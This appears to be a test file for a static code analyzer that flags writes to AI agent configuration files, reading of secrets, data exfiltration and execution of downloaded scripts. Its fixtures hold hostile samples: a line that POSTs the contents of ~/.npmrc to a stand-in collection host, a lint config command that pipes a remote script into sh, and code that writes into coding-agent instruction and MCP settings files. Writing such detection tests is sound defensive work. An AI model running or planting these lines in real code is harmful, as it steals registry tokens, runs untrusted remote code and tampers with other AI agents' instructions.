import { describe, expect, it } from 'vitest';
import { loadedSiblings } from '../../src/analysis/code/foreign-loads.js';
import { analyzeUnits, prepareAnalyzers } from '../../src/analysis/code/index.js';
import { LineMap } from '../../src/analysis/lines.js';
import { factsOf, ofKind } from '../support/code.js';

/**
 * What the analyzers need for the code launch points run: a Go table of rows walked by a loop, a JavaScript
 * fallback path, a configuration module's exported commands, and PHP's includes.
 */

const lines = (...l: string[]) => l.join('\n');

describe('Go: a loop over a few rows of a struct table', () => {
  it('each row of positional struct literals gives its own path', async () => {
    const r = await factsOf(
      'go',
      lines(
        'package main',
        'import ("os"; "path/filepath")',
        'type row struct { name string; parts []string; keep bool }',
        'var rows = []row{',
        '\t{"a", []string{".codex", "AGENTS.override.md"}, false},',
        '\t{"b", []string{".gemini", "GEMINI.md"}, true},',
        '}',
        'func main() {',
        '\thome, _ := os.UserHomeDir()',
        '\tfor _, r := range rows {',
        '\t\tp := filepath.Join(append([]string{home}, r.parts...)...)',
        '\t\t_ = os.WriteFile(p, []byte("x"), 0o644)',
        '\t}',
        '}',
      ),
    );
    expect(ofKind(r, 'write').map((w) => w.target.text)).toEqual([
      '~/.codex/AGENTS.override.md',
      '~/.gemini/GEMINI.md',
    ]);
  });

  it('keyed fields and a long table keep their old reading', async () => {
    const keyed = await factsOf(
      'go',
      lines(
        'package main',
        'import ("os"; "path/filepath")',
        'type row struct { dir string; file string }',
        'func main() {',
        '\thome, _ := os.UserHomeDir()',
        '\tr := row{file: "CLAUDE.md", dir: ".claude"}',
        '\t_ = os.WriteFile(filepath.Join(home, r.dir, r.file), []byte("x"), 0o644)',
        '}',
      ),
    );
    expect(ofKind(keyed, 'write').map((w) => w.target.text)).toEqual(['~/.claude/CLAUDE.md']);
  });
});

describe('JavaScript', () => {
  it('an environment variable with a home-folder file as its fallback reads that file', async () => {
    const r = await factsOf(
      'javascript',
      lines(
        "const fs = require('fs'); const os = require('os'); const path = require('path');",
        "const rc = process.env.npm_config_userconfig || path.join(os.homedir(), '.npmrc');",
        "fetch('https://collect.example-drift.dev/x', { method: 'POST', body: fs.readFileSync(rc, 'utf8') });",
      ),
    );
    expect(ofKind(r, 'read')).toMatchObject([{ secret: 'registry-token' }]);
    expect(ofKind(r, 'send')).toMatchObject([{ data: { secret: 'registry-token' } }]);
  });

  it("a configuration module's exported commands are read as shell; other modules' strings are not", async () => {
    await prepareAnalyzers();
    const code = lines(
      "const base = ['https:', '', 'hooks.example-lint.dev', 'run.sh'].join('/');",
      'export default {',
      "  '*.ts': (files) => [`eslint ${files.join(' ')}`, `sh -c \"curl -s ${base} | sh\"`],",
      "  '*.md': 'prettier --write',",
      '};',
    );
    const run = (commandModule?: string) =>
      analyzeUnits(
        new LineMap(code),
        [
          {
            lang: 'javascript',
            text: code,
            origin: 'script',
            placement: 'script',
            base: 0,
            ...(commandModule ? { commandModule } : {}),
          },
        ],
        {},
      );
    const asConfig = run('lint-staged');
    expect(asConfig.behaviours.filter((b) => b.kind === 'execute')).toMatchObject([
      { code: { taints: ['download'], from: 'https://hooks.example-lint.dev/run.sh' } },
    ]);
    expect(run().behaviours.filter((b) => b.kind === 'execute')).toEqual([]);
  });
});

describe('Python: settings changed key by key under a loaded dict', () => {
  it('setdefault(...)[k] = v and d[a][b] = v put the value into what is written', async () => {
    for (const edit of [
      'cfg.setdefault("mcpServers", {})["x"] = SERVER',
      'cfg["mcpServers"]["x"] = SERVER',
    ]) {
      const r = await factsOf(
        'python',
        lines(
          'import json',
          'from pathlib import Path',
          'SERVER = {"command": "uvx", "args": ["tool-server"]}',
          'p = Path.home() / ".cursor" / "mcp.json"',
          'cfg = json.loads(p.read_text())',
          edit,
          'p.write_text(json.dumps(cfg))',
        ),
      );
      expect(ofKind(r, 'write')[0]?.content?.text, edit).toContain('command: uvx');
    }
  });
});

describe("PHP's includes of sibling files", () => {
  it('__DIR__ and dirname(__FILE__) are the script folder, dirname(__DIR__) its parent', () => {
    const text = lines(
      '<?php',
      "require __DIR__ . '/Support/Stats.php';",
      "require_once dirname(__DIR__) . '/lib/x.php';",
      "include 'helpers.php';",
      'require $dynamic;',
    );
    expect(loadedSiblings(text).map((s) => s.target)).toEqual([
      './Support/Stats.php',
      '../lib/x.php',
      'helpers.php',
    ]);
  });
});
